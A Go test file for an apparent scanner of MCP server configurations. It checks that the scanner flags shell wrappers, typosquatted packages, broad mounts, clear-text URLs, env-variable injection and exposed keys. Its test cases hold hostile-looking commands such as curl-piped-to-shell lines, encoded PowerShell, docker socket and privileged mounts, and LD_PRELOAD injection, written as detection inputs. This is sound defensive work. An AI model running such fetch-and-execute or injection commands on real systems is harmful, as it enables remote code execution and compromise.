package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"sallyport/wrap/client"
	"sallyport/wrap/pin"
)

// scanKey has the shape of a credential, and is none.
const scanKey = "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"

// writeTree writes files below a folder.
func writeTree(t testing.TB, dir string, files map[string]string) {
	t.Helper()
	for name, text := range files {
		path := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
}

// scanOf is a scan with a home of its own, which has no places.
func scanOf(home string, paths ...string) *scanning {
	env := client.Environment{System: "linux", Home: home, Cwd: filepath.Join(home, "nowhere"), Getenv: func(string) string { return "" }}
	return &scanning{paths: paths, env: env}
}

// looked collects and checks as run does, without pins.
func looked(t testing.TB, s *scanning) []*scanned {
	t.Helper()
	if err := s.collect(); err != nil {
		t.Fatal(err)
	}
	for _, x := range s.list {
		if x.Server != "" && x.doc != nil {
			s.check(x)
		}
	}
	if len(s.paths) == 0 {
		s.extensions()
	}
	return s.list
}

// scanEntry looks at one entry of a user's own configuration.
func scanEntry(t testing.TB, entry string) *scanned {
	t.Helper()
	home := t.TempDir()
	writeTree(t, home, map[string]string{".cursor/mcp.json": `{"mcpServers":{"s":` + strings.ReplaceAll(entry, "HOMEFOLDER", filepath.ToSlash(home)) + `}}`})
	list := looked(t, scanOf(home))
	if len(list) != 1 {
		t.Fatalf("%d servers", len(list))
	}
	return list[0]
}

// severitiesOf are those of the findings of a kind.
func severitiesOf(x *scanned, kind string) string {
	var list []string
	for _, f := range x.Findings {
		if f.Kind == kind {
			list = append(list, f.Severity)
		}
	}
	return strings.Join(list, " ")
}

func argv(words ...string) string {
	b, _ := json.Marshal(map[string]any{"command": words[0], "args": words[1:]})
	return string(b)
}

func TestScanFindsWhatIsWrongWithAnEntry(t *testing.T) {
	digest := "@sha256:" + strings.Repeat("a", 64)
	for _, c := range []struct{ kind, name, entry, want string }{
		{"shell", "sh -c", argv("sh", "-c", "exec x"), "medium"},
		{"shell", "bash -lc", argv("/bin/bash", "-lc", "x"), "medium"},
		{"shell", "a script is a program", argv("bash", "start.sh"), ""},
		{"shell", "-c of another program", argv("server", "-c", "x"), ""},
		{"shell", "fetched and run", argv("sh", "-c", "curl -s https://example.com/i | sh"), "high"},
		{"shell", "fetched by substitution", argv("sh", "-c", `sh -c "$(curl -fsSL https://example.com/i)"`), "high"},
		{"shell", "fetched for a shell with a path", argv("bash", "-c", "wget -qO- https://example.com/i | /bin/sh"), "high"},
		{"shell", "fetched for sudo with flags", argv("bash", "-c", "curl https://example.com/i | sudo -E bash"), "high"},
		{"shell", "fetched for a process substitution", argv("bash", "-c", "bash <(curl -s https://example.com/i)"), "high"},
		{"shell", "fetched for a file is not run", argv("sh", "-c", "curl -o f https://example.com/i"), "medium"},
		{"shell", "iex of Elixir fetches nothing", argv("sh", "-c", "cd app && iex -S mix"), "medium"},
		{"shell", "powershell", argv("powershell.exe", "-NoProfile", "-Command", "x"), "medium"},
		{"shell", "powershell in any case", argv("pwsh", "-COMMAND", "x"), "medium"},
		{"shell", "powershell, encoded", argv("powershell", "-encodedcommand", "eAA="), "medium"},
		{"shell", "powershell, encoded, short", argv("powershell", "-e", "eAA="), "medium"},
		{"shell", "powershell with a file", argv("powershell", "-File", "x.ps1"), ""},
		{"shell", "cmd /c npx", argv("cmd", "/c", "npx", "-y", "x@1.0.0"), "low"},
		{"shell", "cmd /C npx", argv(`C:\Windows\System32\cmd.exe`, "/C", "npx", "x@1.0.0"), "low"},
		{"shell", "cmd with flags before /c", argv("cmd", "/d", "/s", "/c", "npx x@1.0.0"), "low"},
		{"shell", "cmd with a line of several commands", argv("cmd", "/c", "npx x@1.0.0 & start y"), "medium"},
		{"shell", "env -S", argv("env", "-S", "node x"), "low"},
		{"shell", "env --split-string", argv("env", "--split-string=node x"), "low"},
		{"shell", "env in front of a shell", argv("/usr/bin/env", "A=b", "bash", "-c", "x"), "medium"},
		{"shell", "env in front of a program", argv("env", "A=b", "node", "x.js"), ""},
		{"shell", "a whole line as command", argv("npx -y x@1.0.0"), "medium"},
		{"shell", "a whole line with a scope", argv("npx -y @scope/server@1.0.0"), "medium"},
		{"shell", "a folder with a blank", argv("/opt/My Apps/server"), ""},
		{"shell", "behind sallyport", argv("sallyport", "wrap", "--", "sh", "-c", "x"), "medium"},

		{"floating", "npx", argv("npx", "-y", "x"), "medium"},
		{"floating", "npx latest", argv("npx", "x@latest"), "medium"},
		{"floating", "npx range", argv("npx", "x@^1.0.0"), "medium"},
		{"floating", "npx exact", argv("npx", "x@1.0.0"), ""},
		{"floating", "uvx", argv("uvx", "x"), "medium"},
		{"floating", "uvx exact", argv("uvx", "x==1.0.0"), ""},
		{"floating", "image by tag", argv("docker", "run", "-i", "mcp/x:1"), "medium"},
		{"floating", "image by digest", argv("docker", "run", "-i", "mcp/x"+digest), ""},
		{"floating", "a program", argv("/opt/x"), ""},
		{"floating", "what is wrapped is pinned", argv("sallyport", "wrap", "--", "npx", "x"), ""},

		{"lookalike", "a letter less", argv("npx", "-y", "@modelcontextprotocol/server-filesytem"), "high"},
		{"lookalike", "the name itself", argv("npx", "-y", "@modelcontextprotocol/server-filesystem@1.0.0"), ""},
		{"lookalike", "behind cmd", argv("cmd", "/c", "npx", "-y", "mcp-remot"), "high"},
		{"lookalike", "npx.cmd", argv("npx.cmd", "-y", "mcp-remot"), "high"},
		{"lookalike", "behind env", argv("env", "A=b", "npx", "-y", "mcp-remot"), "high"},
		{"lookalike", "pnpm dlx", argv("pnpm", "dlx", "mcp-remot"), "high"},
		{"lookalike", "uv tool run", argv("uv", "tool", "run", "mcp-server-gti"), "high"},
		{"lookalike", "--package=", argv("npx", "--package=mcp-remot", "x"), "high"},
		{"lookalike", "--from", argv("uvx", "--from", "mcp-server-gti", "x"), "high"},
		{"lookalike", "a flag with a value first", argv("uvx", "--python", "3.12", "mcp-server-gti"), "high"},
		{"lookalike", "with another package", argv("uvx", "--with", "mcp-server-gti", "mcp-server-git"), "high"},
		{"lookalike", "with a version of PyPI", argv("uvx", "mcp-server-gti>=1.0"), "high"},
		{"lookalike", "behind sallyport", argv("sallyport", "wrap", "--", "npx", "mcp-remot"), "high"},
		{"lookalike", "an underscore means the same on PyPI", argv("uvx", "mcp_server_fetch"), ""},
		{"lookalike", "a path", argv("npx", "./mcp-remot"), ""},

		{"broad", "the root", argv("x", "/"), "medium"},
		{"broad", "a flag with the root", argv("x", "--root=/"), "medium"},
		{"broad", "the home folder", argv("x", "HOMEFOLDER"), "medium"},
		{"broad", "the home folder as ~", argv("x", "~/"), "medium"},
		{"broad", "the home folder by a detour", argv("x", "~/."), "medium"},
		{"broad", "above the home folder", argv("x", "HOMEFOLDER/.."), "medium"},
		{"broad", "a drive", argv("x", `C:\`), "medium"},
		{"broad", "the root as a URI", argv("x", "file:///"), "medium"},
		{"broad", "a folder in the home folder", argv("x", "HOMEFOLDER/notes"), ""},
		{"broad", "a folder of etc", argv("x", "/etc/x"), ""},
		{"broad", "docker -v /", argv("docker", "run", "-v", "/:/host", "mcp/x"+digest), "medium"},
		{"broad", "docker -v=/", argv("docker", "run", "--volume=/:/host:ro", "mcp/x"+digest), "medium"},
		{"broad", "docker -v/ in one word", argv("docker", "run", "-v/:/host", "mcp/x"+digest), "medium"},
		{"broad", "docker -v home", argv("docker", "run", "-v", "HOMEFOLDER:/host", "mcp/x"+digest), "medium"},
		{"broad", "docker -v ${env:HOME}", argv("docker", "run", "-v", "${env:HOME}:/host", "mcp/x"+digest), "medium"},
		{"broad", "docker -v drive", argv("docker", "run", "-v", `C:\:/host`, "mcp/x"+digest), "medium"},
		{"broad", "docker --mount", argv("docker", "run", "--mount", "type=bind,src=/,dst=/host", "mcp/x"+digest), "medium"},
		{"broad", "docker -v folder", argv("docker", "run", "-v", "HOMEFOLDER/notes:/notes", "mcp/x"+digest), ""},
		{"broad", "docker works in its root", argv("docker", "run", "-w", "/", "mcp/x"+digest), ""},
		{"broad", "docker socket", argv("docker", "run", "-v", "/var/run/docker.sock:/var/run/docker.sock", "mcp/x"+digest), "high"},
		{"broad", "docker --privileged", argv("docker", "run", "--privileged", "mcp/x"+digest), "high"},
		{"broad", "docker --network host", argv("docker", "run", "--network", "host", "mcp/x"+digest), "medium"},
		{"broad", "docker --network bridge", argv("docker", "run", "--network=bridge", "mcp/x"+digest), ""},

		{"clear-text", "http", `{"url":"http://mcp.example.com/mcp"}`, "high"},
		{"clear-text", "ws", `{"url":"ws://mcp.example.com/mcp"}`, "high"},
		{"clear-text", "HTTP", `{"url":"HTTP://mcp.example.com/mcp"}`, "high"},
		{"clear-text", "a blank in front, which clients take away", `{"url":" http://mcp.example.com/mcp"}`, "high"},
		{"clear-text", "a tab within, which clients take away", `{"url":"ht\ttp://mcp.example.com/mcp"}`, "high"},
		{"clear-text", "https", `{"url":"https://mcp.example.com/mcp"}`, ""},
		{"clear-text", "loopback", `{"url":"http://127.0.0.1:3000/mcp"}`, ""},
		{"clear-text", "loopback of version 6", `{"url":"http://[::1]:3000/mcp"}`, ""},
		{"clear-text", "localhost", `{"url":"http://localhost:3000/mcp"}`, ""},
		{"clear-text", "a name that begins like localhost", `{"url":"http://localhost.example.com/mcp"}`, "high"},
		{"clear-text", "another network that begins with 127", `{"url":"http://127.0.0.1.example.com/mcp"}`, "high"},
		{"remote", "an address", `{"url":"https://mcp.example.com/mcp"}`, "low"},
		{"remote", "a command", argv("x"), ""},
		{"unwrapped", "a remote server", `{"url":"https://mcp.example.com/mcp"}`, ""},

		{"injection", "LD_PRELOAD", `{"command":"x","env":{"LD_PRELOAD":"/x.so"}}`, "high"},
		{"injection", "NODE_OPTIONS", `{"command":"x","env":{"NODE_OPTIONS":"-r x"}}`, "high"},
		{"injection", "another variable", `{"command":"x","env":{"NODE_ENV":"production"}}`, ""},
		{"unwrapped", "plain", argv("x"), "medium"},
		{"unwrapped", "disabled", `{"command":"x","disabled":true}`, "low"},
		{"unwrapped", "wrapped", argv("sallyport", "wrap", "--", "x"), ""},
		{"unwrapped", "not our wrap", argv("sallyport", "log"), "medium"},
		{"broken-wrap", "not there", argv("/no/such/sallyport", "wrap", "--", "x"), "high"},
		{"odd", "no command", `{}`, "low"},

		{"plain-key", "a variable", `{"command":"x","env":{"TOKEN":"` + scanKey + `"}}`, "high"},
		{"plain-key", "a reference", `{"command":"x","env":{"TOKEN":"keyring:x"}}`, ""},
		{"plain-key", "a variable of the client", `{"command":"x","env":{"TOKEN":"${env:TOKEN}"}}`, ""},
		{"plain-key", "a header", `{"url":"https://mcp.example.com","headers":{"Authorization":"Bearer ` + scanKey + `"}}`, "high"},
		{"plain-key", "an argument", argv("x", "--token", scanKey), "high"},
		{"plain-key", "a query", `{"url":"https://mcp.example.com/?api_key=` + scanKey + `"}`, "high"},
		{"plain-key", "the second of two of a name", `{"url":"https://mcp.example.com/?token=&token=` + scanKey + `"}`, "high"},
		{"plain-key", "a path of an address", `{"url":"https://mcp.example.com/s/` + scanKey + `/mcp"}`, "high"},
		{"plain-key", "a user of an address", `{"url":"https://` + scanKey + `@mcp.example.com/mcp"}`, "high"},
		{"plain-key", "a password of an address", `{"url":"https://u:Zq8vT3mXw2@mcp.example.com/mcp"}`, "high"},
		{"plain-key", "a harmless query", `{"url":"https://mcp.example.com/?region=eu"}`, ""},
	} {
		t.Run(c.kind+"/"+c.name, func(t *testing.T) {
			x := scanEntry(t, c.entry)
			if got := severitiesOf(x, c.kind); got != c.want {
				t.Errorf("%s: %q, want %q", c.entry, got, c.want)
			}
			b, err := json.Marshal(x)
			var out, sarif bytes.Buffer
			(&scanning{list: []*scanned{x}}).print(&page{out: &out})
			if err := writeSARIF(&sarif, "", []*scanned{x}); err != nil {
				t.Fatal(err)
			}
			if all := string(b) + out.String() + sarif.String(); err != nil || strings.Contains(all, scanKey) || strings.Contains(all, "Zq8vT3mXw2") {
				t.Errorf("a key is shown: %.300s", out.String())
			}
		})
	}
}

func TestScanShowsNoKeyOfACommandLine(t *testing.T) {
	const password = "Zq8vT3mXw2-Lk9"
	for _, words := range [][]string{
		{"x", "--token=" + scanKey}, {"x", "--password", password}, {"x", "--header", "Authorization: Bearer " + scanKey},
		{"x", "--header", "X-Api-Key: " + password}, {"x", "--header", "Authorization:Bearer " + password}, {"x", "API_KEY=" + password}, {"x", "A_TOKEN=" + password + " B_TOKEN=" + scanKey},
		{"x", "postgres://u:" + password + "@db.example.com/x"}, {"x", "it's --token=" + password}, {"docker", "run", "-e", "DB_PASSWORD=" + password, "x"},
		{"sh", "-c", "TOKEN=" + password + " exec x"}, {"x", "https://u:" + password + "@mcp.example.com/"}, {"x", "https://mcp.example.com/?api_key=" + password + "&a=b"},
		{"x --token " + scanKey}, {"sallyport", "wrap", "--", "x", "--token", scanKey},
	} {
		t.Run(strings.ReplaceAll(words[len(words)-1], "/", "_"), func(t *testing.T) {
			if x := scanEntry(t, argv(words...)); strings.Contains(x.Command, password) || strings.Contains(x.Command, scanKey) {
				t.Errorf("%q", x.Command)
			}
		})
	}
	home := t.TempDir()
	writeTree(t, home, map[string]string{".gemini/extensions/e/gemini-extension.json": `{"mcpServers":{"s":` + argv("x", "--token", scanKey) + `}}`})
	for _, x := range looked(t, scanOf(home)) {
		if strings.Contains(x.Command, scanKey) || severitiesOf(x, "plain-key") == "" {
			t.Errorf("of an extension: %q %v", x.Command, x.Findings)
		}
	}
}

func TestLookalike(t *testing.T) {
	for name, want := range map[string]string{
		"mcp-server-gti": "mcp-server-git", "mcp-server-gitt": "mcp-server-git", "mcp-server-fetc": "mcp-server-fetch", "mcp-server-tine": "mcp-server-time",
		"@modelcontextprotocl/server-memory": "@modelcontextprotocol/server-memory", "@modelcontext-protocol/server-memory": "@modelcontextprotocol/server-memory",
		"modelcontextprotocol-server-memory": "@modelcontextprotocol/server-memory", "server-filesystem": "@modelcontextprotocol/server-filesystem",
		"context7-mcp": "@upstash/context7-mcp", "MCP-Remot": "mcp-remote", "mcp_remote": "mcp-remote", "@playwrigth/mcp": "@playwright/mcp",
		"mcp-server-git": "", "kubernetes-mcp-server": "", "mcp-server-kubernetes": "", "mcp-server-github": "", "mcp": "", "": "", "@": "", "@/": "",
	} {
		if got := lookalike(name); got != want {
			t.Errorf("%q is like %q, want %q", name, got, want)
		}
	}
	for _, name := range append(slices.Clone(popular), strings.Fields(realPackages)...) {
		if got := lookalike(name); got != "" {
			t.Errorf("%q is like %q", name, got)
		}
	}
}

// realPackages are other packages that exist: of servers, of what servers are made with, and of what their names are near.
const realPackages = `
	express koa fastify hono react react-dom vue svelte angular next nuxt vite webpack rollup esbuild parcel turbo nx lerna eslint prettier
	typescript ts-node tsx nodemon pm2 jest vitest mocha chai playwright puppeteer cypress selenium-webdriver axios got node-fetch undici ws
	socket.io graphql apollo-server prisma drizzle-orm typeorm sequelize knex mongoose mongodb redis ioredis pg mysql mysql2 sqlite3
	better-sqlite3 stripe twilio openai @anthropic-ai/sdk @anthropic-ai/claude-code @openai/codex @google/gemini-cli @google/genai langchain
	@langchain/core @langchain/mcp-adapters ai zod ajv yup dotenv commander yargs chalk ora inquirer lodash underscore ramda rxjs dayjs
	moment date-fns uuid nanoid semver glob rimraf mkdirp fs-extra chokidar execa cross-env concurrently husky lint-staged
	@types/node @babel/core @nestjs/core @angular/core @sveltejs/kit @supabase/supabase-js @sentry/node @sentry/cli @stripe/stripe-js
	@notionhq/client @playwright/test @browserbasehq/sdk @browserbasehq/stagehand @octokit/rest @slack/web-api @slack/bolt @azure/identity
	@aws-sdk/client-s3 aws-sdk aws-cdk @google-cloud/storage firebase firebase-tools firebase-admin vercel netlify-cli wrangler heroku
	fastmcp mcp-framework mcp-use mcp-cli mcp-get mcp-handler mcp-hub mcporter xmcp create-mcp mcp-inspector @mcp-ui/server @mcp-ui/client
	@modelcontextprotocol/client @modelcontextprotocol/server @modelcontextprotocol/core @modelcontextprotocol/ext-apps
	@modelcontextprotocol/create-server @modelcontextprotocol/server-pdf @modelcontextprotocol/server-map
	@salesforce/mcp @sap-ux/fiori-mcp-server @ui5/mcp-server @dynatrace-oss/dynatrace-mcp-server @launchdarkly/mcp-server @paypal/mcp
	@auth0/auth0-mcp-server @contentful/mcp-server @sanity/mcp-server @storyblok/mcp-server @mapbox/mcp-server @microsoft/clarity-mcp-server
	@softeria/ms-365-mcp-server @hyperbrowser/mcp @agentdeskai/browser-tools-mcp @last9/mcp-server @gitkraken/cli @ui5/cli
	todoist-mcp-server linear-mcp-server trello-mcp-server jira-mcp-server airtable-mcp-server discord-mcp youtube-mcp
	mcp-server-code-runner mcp-server-commands mcp-server-text-editor mcp-searxng mcp-package-version mcp-mermaid mcp-deepwiki
	mcp-fetch-server mcp-playwright mcp-knowledge-graph mcp-youtube-transcript n8n-mcp n8n nodemailer octokit bitbucket-mcp gitlab-mcp
	requests httpx aiohttp urllib3 flask django fastapi starlette uvicorn gunicorn pydantic sqlalchemy alembic psycopg psycopg2-binary
	pymysql pymongo boto3 botocore numpy pandas scipy matplotlib scikit-learn torch transformers tokenizers datasets anthropic llama-index
	pytest tox nox black ruff isort flake8 mypy pylint poetry pipenv virtualenv uv hatch setuptools wheel twine click typer rich textual
	mcp mcp-agent mcp-server mcpo mcp-cli fastapi-mcp mcp-clickhouse mcp-server-mysql mcp-server-motherduck mcp-server-tree-sitter
	mcp-server-calculator mcp-server-rijksmuseum mcp-server-reddit mcp-grafana mcp-neo4j-cypher mcp-neo4j-memory mcp-redis mcp-run-python
	mcp-nixos mcp-simple-arxiv mcp-simple-pubmed mcp-alchemy mcp-text-editor mcp-gsuite mcp-shell-server mcp-youtube paper-search-mcp
	chroma-mcp dbt-mcp redis-mcp-server yfinance-mcp oracle-mcp-server aws-mcp-server gcp-mcp powerpoint-mcp ppt-mcp
	office-powerpoint-mcp-server awslabs.nova-canvas-mcp-server awslabs.cost-analysis-mcp-server awslabs.eks-mcp-server awslabs.ecs-mcp-server
	awslabs.lambda-tool-mcp-server awslabs.dynamodb-mcp-server awslabs.postgres-mcp-server awslabs.mysql-mcp-server awslabs.iam-mcp-server
	serena markitdown basic-memory-cli arxiv elevenlabs snowflake-connector-python qdrant-client duckduckgo-search`

func TestScanSaysWhyAFileCannotBeRead(t *testing.T) {
	for name, text := range map[string]string{
		"broken": `{"mcpServers":`, "the same server twice": `{"mcpServers":{"a":{"command":"x"},"a":{"command":"y"}}}`, "empty": "", "no UTF-8": "\xff\xfe",
		"servers that are a list": `{"mcpServers":[]}`, "deep": strings.Repeat(`{"mcpServers":`, 100_000), "larger than any": strings.Repeat(" ", 17<<20) + "{}",
	} {
		t.Run(name, func(t *testing.T) {
			home := t.TempDir()
			writeTree(t, home, map[string]string{".cursor/mcp.json": text, ".gemini/settings.json": `{"mcpServers":{"good":{"command":"x"}}}`})
			var got []string
			for _, x := range looked(t, scanOf(home)) {
				got = append(got, x.Client+":"+x.Server+":"+severitiesOf(x, "unreadable"))
			}
			if want := []string{"cursor::medium", "gemini:good:"}; !slices.Equal(got, want) {
				t.Errorf("%q, want %q", got, want)
			}
		})
	}
	t.Run("a folder in its place", func(t *testing.T) {
		home, clone := t.TempDir(), t.TempDir()
		writeTree(t, home, map[string]string{".cursor/mcp.json/x": ""})
		writeTree(t, clone, map[string]string{".mcp.json/x": ""})
		for _, s := range []*scanning{scanOf(home), scanOf(home, clone)} {
			if list := looked(t, s); len(list) != 1 || severitiesOf(list[0], "unreadable") == "" {
				t.Errorf("%q: %d in the list", s.paths, len(list))
			}
		}
	})
}

// cloneOf writes a folder that somebody else made.
func cloneOf(t testing.TB) string {
	t.Helper()
	clone := t.TempDir()
	writeTree(t, clone, map[string]string{
		"a:b c/.mcp.json":     `{"mcpServers":{"s\u001b[2J\u202e\n":{"command":"sh","args":["-c","x"],"env":{"LD_PRELOAD":"x","A\u202e_TOKEN":"` + scanKey + `"}}}}`,
		".vscode/mcp.json":    `{"servers":{"r":{"url":"http://mcp.example.com/?api_key=` + scanKey + `&x_token=0` + scanKey + `"}}}`,
		".codex/config.toml":  "[mcp_servers.x\n",
		"b/.cursor/mcp.json":  `{"mcpServers":{}}`,
		"b/.git/x/.mcp.json":  `{"mcpServers":{"in-git":{"command":"x"}}}`,
		"b/node_modules/q/.x": "",
	})
	return clone
}

func sarifOf(t testing.TB, paths ...string) string {
	t.Helper()
	s := scanOf(t.TempDir(), paths...)
	list := looked(t, s)
	var b bytes.Buffer
	if err := writeSARIF(&b, s.root, list); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// A sarifLog has the members of SARIF 2.1.0 that have to be there, and those that code hosts ask for.
type sarifLog struct {
	Schema  string `json:"$schema"`
	Version string
	Runs    []struct {
		Tool struct {
			Driver struct {
				Name  string
				Rules []struct {
					ID                     string
					ShortDescription, Help struct{ Text string }
				}
			}
		}
		Results *[]struct {
			RuleID, Level string
			Message       struct{ Text string }
			Locations     []struct {
				PhysicalLocation struct {
					ArtifactLocation struct{ URI string }
					Region           struct{ StartLine int }
				}
			}
			PartialFingerprints map[string]string
		}
	}
}

func TestSARIFHasWhatTheFormatAsksFor(t *testing.T) {
	clone, other := cloneOf(t), cloneOf(t)
	file := filepath.Join(clone, ".vscode", "mcp.json")
	for name, paths := range map[string][]string{"a folder": {clone}, "a file": {file}, "two folders": {clone, other}, "nothing": {t.TempDir()}} {
		t.Run(name, func(t *testing.T) {
			text := sarifOf(t, paths...)
			var log sarifLog
			if err := json.Unmarshal([]byte(text), &log); err != nil {
				t.Fatal(err)
			}
			if log.Version != "2.1.0" || len(log.Runs) != 1 || log.Runs[0].Tool.Driver.Name == "" || log.Runs[0].Results == nil {
				t.Fatalf("%.200s", text)
			}
			rules, prints := map[string]bool{}, map[string]bool{}
			for _, r := range log.Runs[0].Tool.Driver.Rules {
				if rules[r.ID] || r.ID == "" || r.ShortDescription.Text == "" {
					t.Errorf("rule %+v", r)
				}
				if rules[r.ID] = true; r.Help.Text == "" {
					t.Errorf("rule %q has no help text", r.ID)
				}
			}
			for _, r := range *log.Runs[0].Results {
				if !rules[r.RuleID] || !slices.Contains([]string{"note", "warning", "error"}, r.Level) || r.Message.Text == "" || len(r.Locations) != 1 || len(r.PartialFingerprints) == 0 {
					t.Fatalf("result %+v", r)
				}
				at := r.Locations[0].PhysicalLocation
				u, err := url.Parse(at.ArtifactLocation.URI)
				if err != nil || at.Region.StartLine < 1 || u.Scheme != "" && u.Scheme != "file" {
					t.Fatalf("%q: %v", at.ArtifactLocation.URI, err)
				}
				path := filepath.FromSlash(u.Path)
				if u.Scheme == "" {
					path = filepath.Join(clone, path)
				}
				if _, err := os.Stat(path); err != nil {
					t.Errorf("%q leads nowhere: %v", at.ArtifactLocation.URI, err)
				}
				for _, p := range r.PartialFingerprints {
					if prints[p] {
						t.Errorf("two results have the fingerprint %q", p)
					}
					prints[p] = true
				}
			}
			if strings.ContainsAny(text, "\x1b\u202e\u009b") || strings.Contains(text, scanKey) {
				t.Error("what should be hidden is shown")
			}
		})
	}
}

// A code host tells by the fingerprint whether a finding is the one that it had.
func TestFindingsKeepTheirNames(t *testing.T) {
	prints := func(text string) (list []string) {
		var log sarifLog
		if err := json.Unmarshal([]byte(text), &log); err != nil {
			t.Fatal(err)
		}
		for _, r := range *log.Runs[0].Results {
			list = append(list, r.RuleID+" "+r.PartialFingerprints["sallyport/v1"])
		}
		slices.Sort(list)
		return list
	}
	a, b := cloneOf(t), cloneOf(t)
	if first, second := prints(sarifOf(t, a)), prints(sarifOf(t, b)); !slices.Equal(first, second) {
		t.Errorf("the same clone in another folder has other fingerprints: %.200q", slices.Concat(first[:1], second[:1]))
	}
	ids := func(entry string) string {
		for _, f := range scanEntry(t, entry).Findings {
			if f.Kind == "broad" {
				_, rest, _ := strings.Cut(f.ID, "mcp.json")
				return rest
			}
		}
		return "none"
	}
	if before, after := ids(`{"command":"sh","args":["-c","x","/"]}`), ids(`{"command":"x","args":["/"]}`); before != after {
		t.Errorf("a finding is %q, and %q once another one is mended", before, after)
	}
	if first := sarifOf(t, a); slices.ContainsFunc(make([]int, 20), func(int) bool { return sarifOf(t, a) != first }) {
		t.Error("the same clone gives another text at times")
	}
}

func TestDuplicatesAreFoundWhateverTheNamesAre(t *testing.T) {
	item := func(description string) pin.Item {
		i, err := pin.NewItem([]byte(fmt.Sprintf(`{"name":"x","description":%q}`, description)))
		if err != nil {
			t.Fatal(err)
		}
		return i
	}
	s := scanOf(t.TempDir())
	s.places = places{home: s.env.Home, config: t.TempDir()}
	names := []string{"a_read", "read", "server", "name"}
	mine, theirs := &pin.Pin{Server: "one", Items: map[pin.Key]pin.Item{}}, &pin.Pin{Launches: []pin.Launch{{Args: []string{"y"}}}, Items: map[pin.Key]pin.Item{}}
	for _, name := range names {
		mine.Items[pin.Key{Section: pin.Tools, Name: name}] = item("mine")
		theirs.Items[pin.Key{Section: pin.Tools, Name: name}] = item("theirs")
	}
	if err := s.places.pins().Update("two", func(*pin.Pin) (*pin.Pin, error) { return theirs, nil }); err != nil {
		t.Fatal(err)
	}
	x := &scanned{Server: "one", Client: "cursor", argv: []string{"x"}}
	s.shown(x, mine)
	if got := len(strings.Fields(severitiesOf(x, "duplicate"))); got != len(names) {
		t.Errorf("%d of %d tools: %v", got, len(names), x.Findings)
	}
}
